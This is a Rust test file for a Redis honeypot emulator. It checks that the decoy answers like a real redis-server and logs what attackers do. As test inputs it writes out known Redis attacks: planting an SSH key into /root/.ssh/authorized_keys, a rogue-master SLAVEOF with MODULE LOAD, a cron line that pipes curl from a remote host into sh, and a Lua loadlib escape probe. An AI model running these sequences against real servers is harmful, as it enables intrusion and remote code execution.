//! The Redis emulator against redis-cli, the real redis-server side by side,
//! raw sockets and nmap.

use std::net::SocketAddr;
use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use decnet_core::{Event, EventType, SecretKind};
use sha2::{Digest, Sha256};
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;
use tokio::process::{Child, Command};

use crate::harness::{
    decky, decky_in_world, have, login_of, output, serve, svc, unique_ip, Served,
};

async fn start(dir: &Path, name: &str, persona: &[(&str, &str)]) -> Served {
    let d = decky(name, &unique_ip(), dir, vec![svc("redis", persona)]);
    serve(d, "redis").await
}

/// Runs `redis-cli -h … -p … <args>` to its end.
async fn cli(s: &Served, args: &[&str]) -> std::process::Output {
    let mut c = Command::new("redis-cli");
    c.arg("-h")
        .arg(s.addr.ip().to_string())
        .arg("-p")
        .arg(s.addr.port().to_string())
        .args(args);
    output(c).await
}

fn stdout(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// The next `command` event whose command line starts with `prefix`.
async fn command_event(s: &mut Served, prefix: &str) -> Event {
    let p = prefix.to_owned();
    s.wait_for(Duration::from_secs(20), move |e| {
        e.event_type == EventType::Command
            && e.fields["command"]
                .as_str()
                .is_some_and(|c| c.starts_with(&p))
    })
    .await
    .unwrap_or_else(|| panic!("no command event for {prefix}"))
}

/// Reads one RESP reply whole (its bytes as sent); None at EOF.
#[allow(clippy::disallowed_methods)] // a test client reading servers it trusts to end their lines
async fn reply<R: tokio::io::AsyncBufRead + Unpin>(r: &mut R) -> Option<Vec<u8>> {
    let mut line = Vec::new();
    if r.read_until(b'\n', &mut line).await.ok()? == 0 {
        return None;
    }
    let head = line.first().copied()?;
    let n: i64 = std::str::from_utf8(&line[1..line.len() - 2])
        .ok()?
        .parse()
        .unwrap_or(0);
    match head {
        b'$' if n >= 0 => {
            let mut body = vec![0u8; usize::try_from(n).unwrap() + 2];
            r.read_exact(&mut body).await.ok()?;
            line.extend(body);
        }
        b'*' | b'%' if n > 0 => {
            let items = if head == b'%' { n * 2 } else { n };
            for _ in 0..items {
                line.extend(Box::pin(reply(r)).await?);
            }
        }
        _ => {}
    }
    Some(line)
}

/// Sends each probe on one connection and collects one reply per probe.
async fn probe(addr: SocketAddr, probes: &[&[u8]]) -> Vec<String> {
    let c = TcpStream::connect(addr).await.unwrap();
    let (rd, mut wr) = c.into_split();
    let mut rd = BufReader::new(rd);
    let mut out = Vec::new();
    for p in probes {
        wr.write_all(p).await.unwrap();
        let got = tokio::time::timeout(Duration::from_secs(10), reply(&mut rd))
            .await
            .expect("a reply in time");
        out.push(got.map_or("<closed>".to_owned(), |b| {
            String::from_utf8_lossy(&b).into_owned()
        }));
    }
    out
}

/// A probe sent alone: the reply, then whether the server closed.
#[allow(clippy::disallowed_methods)] // both servers close after one error line; the timeout bounds it
async fn probe_close(addr: SocketAddr, p: &[u8]) -> (String, bool) {
    let mut c = TcpStream::connect(addr).await.unwrap();
    c.write_all(p).await.unwrap();
    let mut got = Vec::new();
    let closed = tokio::time::timeout(Duration::from_secs(10), c.read_to_end(&mut got))
        .await
        .is_ok();
    (String::from_utf8_lossy(&got).into_owned(), closed)
}

/// The bulk strings of an array reply.
fn bulks(r: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = r.split_once("\r\n").map_or("", |(_, b)| b);
    while let Some((len, after)) = rest.strip_prefix('$').and_then(|x| x.split_once("\r\n")) {
        let n: usize = len.parse().unwrap();
        out.push(after[..n].to_owned());
        rest = &after[n + 2..];
    }
    out
}

/// Serves `decky`'s redis on `port` of its own address (nmap reads the
/// version only where it expects Redis, on 6379), as the testkit's `serve` does on port 0.
async fn serve_on(
    decky: std::sync::Arc<decnet_services::DeckyRuntime>,
    port: u16,
) -> (
    SocketAddr,
    tokio::task::JoinHandle<()>,
    tokio::sync::mpsc::Receiver<Event>,
) {
    use decnet_core::catalog::ServiceCatalog as _;
    let registry = decnet_services::Registry::builtin();
    let svc = registry.get("redis").unwrap();
    let info = svc.info().listener("redis").unwrap();
    let instance = svc
        .instance(decky.clone(), &decky.config.services[0])
        .unwrap();
    let listener = tokio::net::TcpListener::bind(SocketAddr::new(decky.config.ip, port))
        .await
        .unwrap();
    let addr = listener.local_addr().unwrap();
    let (tx, rx) = tokio::sync::mpsc::channel(10_000);
    let emitter = decnet_services::Emitter::new(tx);
    let task = tokio::spawn(async move {
        while let Ok((stream, peer)) = listener.accept().await {
            let ctx = decnet_services::ConnCtx {
                decky: decky.clone(),
                service: "redis",
                listener: info,
                peer,
                local: addr,
                session_id: uuid::Uuid::now_v7(),
                accepted: tokio::time::Instant::now(),
                emitter: emitter.clone(),
                abort: Default::default(),
                pre_auth: Default::default(),
                slots: Default::default(),
            };
            let conn = decnet_services::Conn::new(Box::new(stream), peer, addr, &decky.limits);
            let inst = instance.clone();
            tokio::spawn(async move {
                let _ = inst.serve(conn, ctx).await;
            });
        }
    });
    let _ = registry.services();
    (addr, task, rx)
}

/// The real redis-server on loopback, killed on drop.
struct RealRedis {
    addr: SocketAddr,
    _child: Child,
    _dir: tempfile::TempDir,
}

#[allow(clippy::disallowed_methods)] // redis-server's own log lines
async fn real_redis(requirepass: Option<&str>) -> RealRedis {
    let dir = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut c = Command::new("redis-server");
    c.args([
        "--bind",
        "127.0.0.1",
        "--port",
        &port.to_string(),
        "--save",
        "",
        "--appendonly",
        "no",
    ])
    .arg("--dir")
    .arg(dir.path())
    .args(["--logfile", "", "--daemonize", "no"])
    // The decoy answers as a server whose admin loosened these (see the module doc).
    .args([
        "--enable-protected-configs",
        "yes",
        "--enable-module-command",
        "yes",
    ])
    .stdout(Stdio::piped())
    .kill_on_drop(true);
    if let Some(p) = requirepass {
        c.args(["--requirepass", p]);
    }
    let mut child = c.spawn().expect("redis-server runs");
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    tokio::time::timeout(Duration::from_secs(20), async {
        while let Some(l) = lines.next_line().await.unwrap() {
            if l.contains("Ready to accept connections") {
                return;
            }
        }
        panic!("redis-server ended before it was ready");
    })
    .await
    .expect("redis-server ready in time");
    tokio::spawn(async move { while let Ok(Some(_)) = lines.next_line().await {} });
    RealRedis {
        addr: SocketAddr::from(([127, 0, 0, 1], port)),
        _child: child,
        _dir: dir,
    }
}

#[tokio::test]
async fn redis_cli_auth_in_both_forms_is_captured_exactly() {
    if !have("redis-cli") {
        eprintln!("skipped: redis-cli (redis-tools) is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "redis-auth", &[("requirepass", "S3cret!pw")]).await;
    // One argument, wrong: Ubuntu 22.04's 6.0.16 answers WRONGPASS without "user is disabled".
    let out = cli(&s, &["--no-auth-warning", "-a", "wr0ng pass", "ping"]).await;
    assert!(
        stdout(&out).contains("NOAUTH")
            || String::from_utf8_lossy(&out.stderr).contains("WRONGPASS"),
        "{out:?}"
    );
    let e = s
        .wait_type(EventType::LoginAttempt)
        .await
        .expect("login_attempt");
    assert_eq!(
        login_of(&e),
        (
            "default".into(),
            b"wr0ng pass".to_vec(),
            SecretKind::Password
        )
    );
    assert_eq!(
        e.fields["reply"],
        "WRONGPASS invalid username-password pair"
    );
    assert_eq!(e.fields["command"], "AUTH");
    // One argument, right.
    let out = cli(&s, &["--no-auth-warning", "-a", "S3cret!pw", "ping"]).await;
    assert_eq!(stdout(&out), "PONG\n");
    let e = s
        .wait_type(EventType::LoginSuccess)
        .await
        .expect("login_success");
    assert_eq!(
        login_of(&e),
        (
            "default".into(),
            b"S3cret!pw".to_vec(),
            SecretKind::Password
        )
    );
    // Two arguments (ACL form), a user that does not exist, then the default user.
    let out = cli(
        &s,
        &[
            "--no-auth-warning",
            "--user",
            "admin",
            "--pass",
            "hunter2",
            "ping",
        ],
    )
    .await;
    assert!(!stdout(&out).contains("PONG"));
    let e = s
        .wait_type(EventType::LoginAttempt)
        .await
        .expect("login_attempt");
    assert_eq!(
        login_of(&e),
        ("admin".into(), b"hunter2".to_vec(), SecretKind::Password)
    );
    let out = cli(
        &s,
        &[
            "--no-auth-warning",
            "--user",
            "default",
            "--pass",
            "S3cret!pw",
            "ping",
        ],
    )
    .await;
    assert_eq!(stdout(&out), "PONG\n");
    let e = s
        .wait_type(EventType::LoginSuccess)
        .await
        .expect("login_success");
    assert_eq!(login_of(&e).0, "default");
    // Before AUTH, everything else is refused.
    let out = cli(&s, &["get", "x"]).await;
    assert!(
        stdout(&out).contains("NOAUTH Authentication required."),
        "{out:?}"
    );
    let e = command_event(&mut s, "get x").await;
    assert_eq!(e.fields["reply"], "NOAUTH Authentication required.");
    assert_eq!(e.fields["authenticated"], false);
}

#[tokio::test]
async fn info_reports_the_persona_and_each_decky_its_own_run_id() {
    if !have("redis-cli") {
        eprintln!("skipped: redis-cli (redis-tools) is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let a = start(tmp.path(), "redis-info-a", &[]).await;
    let b = start(tmp.path(), "redis-info-b", &[("redis_version", "7.0.15")]).await;
    let field = |text: &str, k: &str| {
        text.lines()
            .find_map(|l| l.strip_prefix(&format!("{k}:")))
            .map(|v| v.trim_end().to_owned())
            .unwrap_or_else(|| panic!("no {k} in INFO:\n{text}"))
    };
    let ia = stdout(&cli(&a, &["info"]).await);
    let ib = stdout(&cli(&b, &["info", "server"]).await);
    // ubuntu22 ships 6.0.16; the persona key overrides it.
    assert_eq!(field(&ia, "redis_version"), "6.0.16");
    assert_eq!(field(&ib, "redis_version"), "7.0.15");
    assert_eq!(field(&ia, "os"), "Linux 5.15.0-91-generic x86_64");
    assert_eq!(field(&ia, "gcc_version"), "11.4.0");
    assert_eq!(field(&ia, "tcp_port"), a.addr.port().to_string());
    assert_eq!(field(&ib, "tcp_port"), b.addr.port().to_string());
    assert_ne!(field(&ia, "run_id"), field(&ib, "run_id"));
    assert_eq!(field(&ia, "run_id").len(), 40);
    // Uptime counts from the decky's boot, the same the shell's `uptime` shows.
    let p = decnet_services::shell::Persona::for_decky(&a.decky, None, None, Vec::new());
    let up: i64 = field(&ia, "uptime_in_seconds").parse().unwrap();
    let since_boot = chrono::Utc::now().timestamp() - p.boot;
    assert!(
        (since_boot - 20..=since_boot).contains(&up),
        "uptime {up}, booted {since_boot}s ago"
    );
    assert_eq!(field(&ia, "uptime_in_days"), (up / 86_400).to_string());
    assert_eq!(
        field(&ia, "total_system_memory"),
        (p.mem_kb * 1024).to_string()
    );
    // 6.0 had no Errorstats section and no server_time_usec; 7.0 has both.
    assert!(!ia.contains("# Errorstats") && !ia.contains("server_time_usec"));
    assert!(ib.contains("server_time_usec:") && !ib.contains("# Clients"));
}

#[tokio::test]
async fn the_authorized_keys_attack_is_captured_command_by_command_and_the_key_kept() {
    if !have("redis-cli") {
        eprintln!("skipped: redis-cli (redis-tools) is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "redis-ssh", &[("redis_version", "7.0.15")]).await;
    let key = "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7attacker root@kali\n\n\n";
    for (args, want) in [
        (vec!["flushall"], "OK"),
        (vec!["config", "set", "dir", "/root/.ssh"], "OK"),
        (vec!["config", "set", "dbfilename", "authorized_keys"], "OK"),
        (vec!["set", "x", key], "OK"),
        (vec!["config", "get", "dir"], "dir\n/root/.ssh"),
        (vec!["save"], "OK"),
    ] {
        let out = cli(&s, &args).await;
        assert_eq!(stdout(&out).trim_end(), want, "{args:?}");
    }
    let e = command_event(&mut s, "flushall").await;
    assert_eq!(e.fields["framing"], "resp");
    let e = command_event(&mut s, "config set dir").await;
    assert_eq!(e.fields["command"], "config set dir /root/.ssh");
    let e = command_event(&mut s, "config set dbfilename").await;
    assert_eq!(e.fields["command"], "config set dbfilename authorized_keys");
    assert_eq!(e.fields["dir"], "/root/.ssh");
    let up = s
        .wait_type(EventType::FileUpload)
        .await
        .expect("file_upload");
    let sha = hex::encode(Sha256::digest(key.as_bytes()));
    assert_eq!(up.fields["sha256"], sha);
    assert_eq!(up.fields["name"], "x");
    assert_eq!(up.fields["payload"], "ssh_key");
    assert_eq!(up.fields["size"], key.len());
    let artifact = up.fields["artifact"].as_str().unwrap();
    assert_eq!(std::fs::read(artifact).unwrap(), key.as_bytes());
    let e = command_event(&mut s, "set x").await;
    assert_eq!(
        e.fields["command"],
        "set x \"\\n\\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7attacker root@kali\\n\\n\\n\""
    );
    let e = command_event(&mut s, "save").await;
    assert_eq!(e.fields["path"], "/root/.ssh/authorized_keys");
}

#[tokio::test]
async fn a_scanner_reads_the_same_answers_from_the_decoy_and_the_real_redis_server() {
    if !have("redis-server") {
        eprintln!("skipped: redis-server is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let real = real_redis(None).await;
    let real_auth = real_redis(Some("s3cret")).await;
    let mut decoy = start(tmp.path(), "redis-real", &[("redis_version", "7.0.15")]).await;
    let decoy_auth = start(
        tmp.path(),
        "redis-real-auth",
        &[("redis_version", "7.0.15"), ("requirepass", "s3cret")],
    )
    .await;

    let open: Vec<&[u8]> = vec![
        b"PING\r\n",
        b"foo bar baz\r\n",
        b"*3\r\n$3\r\nfoo\r\n$3\r\nbar\r\n$3\r\nbaz\r\n",
        b"GET\r\n",
        b"GET / HTTP/1.0\r\n",
        b"AUTH x\r\n",
        b"AUTH a b\r\n",
        b"AUTH default whatever\r\n",
        b"CONFIG FOO\r\n",
        b"CONFIG GET\r\n",
        b"CONFIG SET foo bar\r\n",
        b"CONFIG GET maxmemory\r\n",
        b"CLIENT FOO\r\n",
        b"SELECT 99\r\n",
        b"SELECT x\r\n",
        b"EXPIRE k x\r\n",
        b"COMMAND COUNT\r\n",
        b"ECHO \"a\\x41b\"\r\n",
        b"TTL nokey\r\n",
        b"TYPE nokey\r\n",
        b"SET a b EX 0\r\n",
        b"HELLO 4\r\n",
        b"SCRIPT LOAD \"return 1\"\r\n",
        b"EVAL \"return 1\" 0\r\n",
        b"EVAL \"return 1\"\r\n",
        b"EVALSHA abc 0\r\n",
        b"SCRIPT KILL\r\n",
        b"SCRIPT FOO\r\n",
        b"EVAL \"local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io'); return 1\" 0\r\n",
        b"CLIENT KILL 1.2.3.4:5\r\n",
        b"SET k v\r\n",
        b"HGET k f\r\n",
        b"INCR k\r\n",
        b"GET k\r\n",
        b"DEL k\r\n",
        b"CONFIG SET dir /tmp\r\n",
        b"MODULE LIST\r\n",
        b"SLAVEOF 1.2.3.4\r\n",
        b"FLUSHDB x\r\n",
        b"CLIENT GETNAME\r\n",
    ];
    assert_eq!(
        probe(decoy.addr, &open).await,
        probe(real.addr, &open).await
    );
    let locked: Vec<&[u8]> = vec![
        b"PING\r\n",
        b"foo\r\n",
        b"GET\r\n",
        b"GET x\r\n",
        b"AUTH\r\n",
        b"AUTH bad\r\n",
        b"AUTH default bad\r\n",
        b"HELLO\r\n",
        b"HELLO 3\r\n",
        b"AUTH s3cret\r\n",
        b"PING\r\n",
    ];
    assert_eq!(
        probe(decoy_auth.addr, &locked).await,
        probe(real_auth.addr, &locked).await
    );
    for p in [
        &b"*1\r\n*1\r\n"[..],
        b"*x\r\n",
        b"ECHO \"abc\r\n",
        b"*1\r\n$-1\r\n",
        b"*1\r\n$abc\r\n",
    ] {
        assert_eq!(
            probe_close(decoy.addr, p).await,
            probe_close(real.addr, p).await,
            "{p:?}"
        );
    }
    for p in [&b"*11\r\n"[..], b"*1\r\n$16385\r\n"] {
        assert_eq!(
            probe_close(decoy_auth.addr, p).await,
            probe_close(real_auth.addr, p).await,
            "{p:?}"
        );
    }
    let e = decoy
        .wait_type(EventType::ProtocolError)
        .await
        .expect("protocol_error");
    assert_eq!(e.fields["reason"], "expected $ but got something else");

    // INFO: the same sections, and in each the same fields in the same order.
    let shape = |info: String| -> Vec<String> {
        info.lines()
            .filter(|l| !l.is_empty() && !l.starts_with("$"))
            .map(|l| l.split(':').next().unwrap().to_owned())
            .collect()
    };
    for arg in ["INFO\r\n", "INFO all\r\n", "INFO server clients\r\n"] {
        let d = probe(decoy.addr, &[arg.as_bytes()]).await.remove(0);
        let r = probe(real.addr, &[arg.as_bytes()]).await.remove(0);
        let (mut d, mut r) = (shape(d), shape(r));
        // Per-command statistics depend on what each server was sent.
        for v in [&mut d, &mut r] {
            v.retain(|l| {
                !l.starts_with("cmdstat_")
                    && !l.starts_with("errorstat_")
                    && !l.starts_with("latency_percentiles")
                    && !l.starts_with("db")
            });
        }
        assert_eq!(d, r, "{arg}");
    }
    // CONFIG GET * names the same parameters.
    let names = |addr| async move {
        let mut keys: Vec<String> = bulks(&probe(addr, &[b"CONFIG GET *\r\n"]).await.remove(0))
            .chunks(2)
            .map(|c| c[0].clone())
            .collect();
        keys.sort();
        keys
    };
    assert_eq!(names(decoy.addr).await, names(real.addr).await);
}

#[tokio::test]
async fn nmap_version_detection_names_redis_with_its_version() {
    if !have("nmap") {
        eprintln!("skipped: nmap is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let d = decky(
        "redis-nmap",
        &unique_ip(),
        tmp.path(),
        vec![svc("redis", &[])],
    );
    let (addr, task, mut events) = serve_on(d, 6379).await;
    let mut c = Command::new("nmap");
    c.args(["-sV", "-Pn", "-n", "-p", "6379"])
        .arg(addr.ip().to_string());
    let out = output(c).await;
    task.abort();
    let text = stdout(&out);
    assert!(
        text.contains("6379/tcp open  redis   Redis key-value store 6.0.16"),
        "nmap said:\n{text}"
    );
    let mut saw_info = false;
    while let Ok(e) = events.try_recv() {
        saw_info |= e.fields.get("command").and_then(|c| c.as_str()) == Some("info");
    }
    assert!(saw_info, "nmap's version probe is an INFO, captured");
}

#[tokio::test]
async fn the_bait_keyspace_holds_sessions_and_cached_credentials_that_are_honeytokens() {
    if !have("redis-cli") {
        eprintln!("skipped: redis-cli (redis-tools) is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let d = decky_in_world(
        "redis-bait",
        &unique_ip(),
        tmp.path(),
        vec![svc("redis", &[]), svc("imap", &[])],
    );
    let s = serve(d, "redis").await;
    let keys = stdout(&cli(&s, &["--scan"]).await);
    assert!(
        keys.lines().filter(|k| k.starts_with("sess:")).count() >= 6,
        "{keys}"
    );
    assert!(keys.lines().any(|k| k == "cache:config:smtp"), "{keys}");
    let smtp = stdout(&cli(&s, &["hgetall", "cache:config:smtp"]).await);
    let v: Vec<&str> = smtp.lines().collect();
    let get = |f: &str| v[v.iter().position(|x| *x == f).unwrap() + 1];
    let (user, pass) = (get("user"), get("password"));
    let t = s
        .decky
        .bait
        .honeytoken(user, pass.as_bytes())
        .expect("a honeytoken");
    assert!(t
        .planted
        .iter()
        .any(|p| p.service == "redis" && p.document == "key cache:config:smtp"));
    assert!(
        t.valid_on.contains(&"redis-bait".to_owned()),
        "the mail decky takes it"
    );
    assert_eq!(stdout(&cli(&s, &["type", "queue:mail"]).await), "list\n");
    assert_eq!(stdout(&cli(&s, &["-n", "1", "dbsize"]).await), "3\n");
}

#[tokio::test]
async fn an_operators_bait_file_fills_the_keyspace_and_errors_name_the_line() {
    let tmp = tempfile::tempdir().unwrap();
    let f = tmp.path().join("keys.txt");
    std::fs::write(&f, "# ours\nSET backup:token \"tok\\x41en\" EX 600\nSELECT 2\nHSET user:1 name alice pass 'pa ss'\n").unwrap();
    let s = start(
        tmp.path(),
        "redis-file",
        &[("bait_file", f.to_str().unwrap())],
    )
    .await;
    let got = probe(
        s.addr,
        &[
            b"GET backup:token\r\n",
            b"SELECT 2\r\n",
            b"HGET user:1 pass\r\n",
            b"TTL user:1\r\n",
        ],
    )
    .await;
    assert_eq!(
        got,
        ["$6\r\ntokAen\r\n", "+OK\r\n", "$5\r\npa ss\r\n", ":-1\r\n"]
    );
    std::fs::write(&f, "SET a b\nDEL a\n").unwrap();
    let d = decky(
        "redis-file-bad",
        &unique_ip(),
        tmp.path(),
        vec![svc("redis", &[("bait_file", f.to_str().unwrap())])],
    );
    let registry = decnet_services::Registry::builtin();
    let err = registry
        .get("redis")
        .unwrap()
        .instance(d.clone(), &d.config.services[0])
        .err()
        .unwrap();
    assert!(
        err.to_string()
            .contains("keys.txt:2: expected SELECT, SET, HSET or RPUSH"),
        "{err}"
    );
}

#[tokio::test]
async fn old_releases_answer_auth_as_they_did_and_writes_are_capped() {
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(
        tmp.path(),
        "redis-v5",
        &[("redis_version", "5.0.14"), ("requirepass", "pw")],
    )
    .await;
    let got = probe(
        s.addr,
        &[
            b"AUTH a b\r\n",
            b"AUTH nope\r\n",
            b"HELLO 3\r\n",
            b"nope x\r\n",
            b"AUTH pw\r\n",
            b"COMMAND COUNT\r\n",
        ],
    )
    .await;
    assert_eq!(
        got,
        [
            "-ERR wrong number of arguments for 'auth' command\r\n",
            "-ERR invalid password\r\n",
            "-ERR unknown command `HELLO`, with args beginning with: `3`, \r\n",
            "-ERR unknown command `nope`, with args beginning with: `x`, \r\n",
            "+OK\r\n",
            ":200\r\n",
        ]
    );
    let e = s.wait_type(EventType::LoginAttempt).await.unwrap();
    assert_eq!(login_of(&e).1, b"nope");
    // 4 MiB values until the decky's keyspace is full: then Redis's OOM error.
    let big = vec![b'a'; 4 * 1024 * 1024 - 64];
    let mut c = TcpStream::connect(s.addr).await.unwrap();
    let (rd, mut wr) = c.split();
    let mut rd = BufReader::new(rd);
    wr.write_all(b"AUTH pw\r\n").await.unwrap();
    assert_eq!(reply(&mut rd).await.unwrap(), b"+OK\r\n");
    let mut answers = Vec::new();
    for i in 0..6 {
        let mut cmd = format!("*3\r\n$3\r\nSET\r\n$2\r\nk{i}\r\n${}\r\n", big.len()).into_bytes();
        cmd.extend(&big);
        cmd.extend(b"\r\n");
        wr.write_all(&cmd).await.unwrap();
        answers.push(String::from_utf8(reply(&mut rd).await.unwrap()).unwrap());
    }
    assert_eq!(answers[..3], ["+OK\r\n", "+OK\r\n", "+OK\r\n"]);
    assert_eq!(
        answers[5],
        "-OOM command not allowed when used memory > 'maxmemory'.\r\n"
    );
}

#[tokio::test]
async fn the_rogue_master_and_cron_attacks_are_captured_with_full_arguments() {
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "redis-rogue", &[("redis_version", "7.0.15")]).await;
    let cron = "\n\n*/1 * * * * curl -fsSL http://203.0.113.7/x.sh | sh\n\n";
    let set = format!(
        "*3\r\n$3\r\nSET\r\n$6\r\nbackup\r\n${}\r\n{cron}\r\n",
        cron.len()
    );
    let got = probe(
        s.addr,
        &[
            b"SLAVEOF 203.0.113.7 21000\r\n",
            b"CONFIG SET dbfilename exp.so\r\n",
            b"MODULE LOAD ./exp.so\r\n",
            b"SLAVEOF NO ONE\r\n",
            b"CONFIG SET dir /var/spool/cron/crontabs\r\n",
            set.as_bytes(),
            b"EVAL \"return redis.call('get', 'backup')\" 0\r\n",
            b"QUIT\r\n",
        ],
    )
    .await;
    assert_eq!(
        got[..5],
        [
            "+OK\r\n",
            "+OK\r\n",
            "-ERR Error loading the extension. Please check the server logs.\r\n",
            "+OK\r\n",
            "+OK\r\n"
        ]
    );
    // SLAVEOF NO ONE made it a master again: the write goes through.
    assert_eq!(got[5], "+OK\r\n");
    assert_eq!(got[6], format!("${}\r\n{cron}\r\n", cron.len()));
    assert_eq!(got[7], "+OK\r\n");
    let e = command_event(&mut s, "SLAVEOF").await;
    assert_eq!(e.fields["command"], "SLAVEOF 203.0.113.7 21000");
    assert_eq!(
        (
            e.fields["master_host"].as_str(),
            e.fields["master_port"].as_i64()
        ),
        (Some("203.0.113.7"), Some(21000))
    );
    assert_eq!(e.fields["framing"], "inline");
    let e = command_event(&mut s, "MODULE LOAD").await;
    assert_eq!(e.fields["module"], "./exp.so");
    assert_eq!(
        e.fields["reply"],
        "ERR Error loading the extension. Please check the server logs."
    );
    let up = s
        .wait_type(EventType::FileUpload)
        .await
        .expect("file_upload");
    assert_eq!(up.fields["payload"], "cron");
    assert_eq!(
        up.fields["sha256"],
        hex::encode(Sha256::digest(cron.as_bytes()))
    );
    let e = command_event(&mut s, "EVAL").await;
    assert_eq!(
        e.fields["command"],
        "EVAL \"return redis.call('get', 'backup')\" 0"
    );
    assert_eq!(e.fields["sha1"].as_str().unwrap().len(), 40);
}

#[tokio::test]
async fn a_replica_refuses_writes_and_a_silent_visitor_is_a_scan() {
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "redis-replica", &[]).await;
    let got = probe(
        s.addr,
        &[
            b"REPLICAOF 203.0.113.7 6379\r\n",
            b"SET a b\r\n",
            b"INFO replication\r\n",
            b"REPLICAOF NO ONE\r\n",
            b"SET a b\r\n",
        ],
    )
    .await;
    assert_eq!(
        got[1],
        "-READONLY You can't write against a read only replica.\r\n"
    );
    assert!(got[2].contains("role:slave\r\nmaster_host:203.0.113.7\r\nmaster_port:6379\r\nmaster_link_status:down\r\n"), "{}", got[2]);
    assert_eq!(got[4], "+OK\r\n");
    drop(TcpStream::connect(s.addr).await.unwrap());
    let e = s.wait_type(EventType::Scan).await.expect("scan");
    assert_eq!(e.fields["bytes"], 0);
}
